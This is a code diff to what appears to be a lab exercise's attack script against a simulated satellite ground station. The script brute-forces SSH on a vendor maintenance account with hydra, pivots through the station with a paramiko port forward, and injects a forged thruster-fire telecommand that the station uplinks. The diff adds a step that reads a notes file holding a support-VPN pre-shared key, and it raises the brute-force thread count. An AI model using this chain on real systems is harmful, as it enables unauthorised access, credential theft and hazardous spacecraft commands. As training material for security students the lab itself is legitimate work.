@@ -5,9 +5,10 @@ the student.
    (10025) are both there, a flat network.
 2. Brute-force SSH on the station for the vendor maintenance account `gsmaint` with hydra
    and the shipped word list of weak passwords.
-3. Pivot: log in with the password found (paramiko) and forward a connection through the
+3. Loot and pivot: log in with the password found (paramiko) and forward a connection through the
    station to its own packet service (SSH direct-tcpip to 127.0.0.1:10025), as
-   `ssh -L 10025:127.0.0.1:10025 gsmaint@ground-station` would.
+   `ssh -L 10025:127.0.0.1:10025 gsmaint@ground-station` would. The account's notes
+   (/srv/support/gsmaint-notes.txt) hold the vendor's support-VPN pre-shared key.
 4. Hand the station a PUS-C telecommand (THRUSTER_FIRE, 8,1 function 4): it frames it,
    protects it with its operational SDLS key and uplinks it. The spacecraft executes a
    hazardous command that mission control never sent.
@@ -39,6 +40,7 @@ PLATFORM_APID = 0x064
 THRUSTER_FIRE = 4  # 8,1 function id
 BURN_MS = 2600
 SOURCE_ID = 0x0BAD  # not mission control's
+NOTES = "/srv/support/gsmaint-notes.txt"
 #: Time for the station to frame and uplink the command before the tunnel closes.
 SETTLE_S = 5.0
 
@@ -59,7 +61,7 @@ def brute_force() -> str | None:
         wordlist = os.path.join(work, "words.txt")
         with open(wordlist, "w") as out:
             out.write("\n".join(words) + "\n")
-        argv = [hydra, "-I", "-f", "-t", "4", "-l", USER, "-P", wordlist, f"ssh://{STATION}"]
+        argv = [hydra, "-I", "-f", "-t", "16", "-l", USER, "-P", wordlist, f"ssh://{STATION}"]
         print("$", " ".join(argv), flush=True)
         run = subprocess.run(argv, capture_output=True, text=True, cwd=work, check=False)
     found = re.search(rf"login:\s+{USER}\s+password:\s+(\S+)", run.stdout)
@@ -86,6 +88,8 @@ def pivot(password: str) -> None:
         look_for_keys=False,
     )
     try:
+        _, stdout, _ = client.exec_command(f"cat {NOTES}", timeout=15)
+        print(stdout.read().decode("utf-8", "replace").strip(), flush=True)
         transport = client.get_transport()
         if transport is None:
             raise paramiko.SSHException("no transport")
